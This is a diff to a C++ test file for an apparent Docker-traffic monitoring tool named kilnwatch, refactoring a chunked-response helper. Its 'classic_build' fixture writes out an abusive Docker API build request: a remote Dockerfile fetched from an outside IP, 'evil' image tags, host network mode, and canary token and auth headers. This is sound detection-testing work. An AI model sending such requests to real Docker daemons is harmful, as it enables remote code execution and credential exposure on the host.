@@ -8,20 +8,13 @@ using namespace kilnwatch::test;
 
 namespace {
 
-constexpr char kHead[] =
-    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
-
-std::string stream(const std::string& escaped) {
-  return chunk("{\"stream\":\"" + escaped + "\"}\r\n");
-}
-
 std::vector<Turn> classic_build() {
   return {asks("POST /v1.41/build?remote=http%3A%2F%2F198.51.100.66%2FDockerfile&t=evil:1&t=evil:2"
                "&buildargs=%7B%22TOKEN%22%3A%22canary-arg%22%7D&networkmode=host HTTP/1.1\r\n"
                "Host: x\r\nX-Registry-Config: Y2FuYXJ5LWNvbmZpZw==\r\nAuthorization: Bearer "
                "canary-auth\r\n"
                "User-Agent: curl/8\r\nContent-Length: 0\r\n\r\n"),
-          answers(kHead),
+          answers(kChunkedOk),
           answers(stream("Step 1/2 : FROM base:1")),
           answers(stream("\\n")),
           answers(stream(" ---\\u003e Running in 0123456789ab\\n")),
